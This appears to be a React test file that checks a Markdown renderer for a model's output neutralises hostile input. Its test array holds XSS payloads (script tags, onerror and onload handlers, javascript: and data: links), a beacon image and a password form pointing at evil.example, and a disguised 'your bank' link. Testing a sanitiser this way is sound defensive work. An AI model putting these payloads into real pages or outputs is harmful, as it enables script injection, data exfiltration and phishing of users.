import { screen } from '@testing-library/react';
import { renderIn } from '../../test/render';
import Markdown from './markdown';

const hostile = [
  '<script>window.hit = true</script>',
  '<img src=x onerror="window.hit = true">',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:window.hit = true">x</a>',
  '[x](javascript:window.hit=true)',
  '[x](data:text/html,<script>window.hit=true</script>)',
  '![beacon](https://evil.example/pixel.png?secret=1)',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<svg onload="window.hit = true"></svg>',
];

describe('markdown of a model', () => {
  it.each(hostile)('makes nothing live of %s', async (text) => {
    const { container } = await renderIn(<Markdown text={text} />);
    expect(container.querySelector('script, img, iframe, style, form, input, svg:not(button svg), object, embed, link')).toBeNull();
    container.querySelectorAll('a').forEach(({ href }) => expect(href).not.toMatch(/^(?:javascript|data):/));
    const attributes = [...container.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
    expect(attributes.filter(({ name }) => name.startsWith('on'))).toEqual([]);
    expect(window).not.toHaveProperty('hit');
  });

  it('says where a link leads and opens it apart', async () => {
    await renderIn(<Markdown text="[your bank](https://evil.example/login)" />);
    const link = screen.getByRole('link');
    expect(link).toHaveTextContent('your bank (evil.example)');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  });

  it('shows text, lists, tables and code, with the code to copy', async () => {
    await renderIn(<Markdown text={'Some **bold** words\n\n- a\n- b\n\n| h |\n| - |\n| c |\n\n```ts\nconst x = 1;\n```'} />);
    expect(screen.getByText('bold').tagName).toBe('STRONG');
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
    expect(screen.getByRole('cell', { name: 'c' })).toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Copy Code' })).toBeInTheDocument();
  });

  it('keeps the page’s outline to itself', async () => {
    await renderIn(<Markdown text="# Big" />);
    expect(screen.queryByRole('heading')).not.toBeInTheDocument();
  });
});
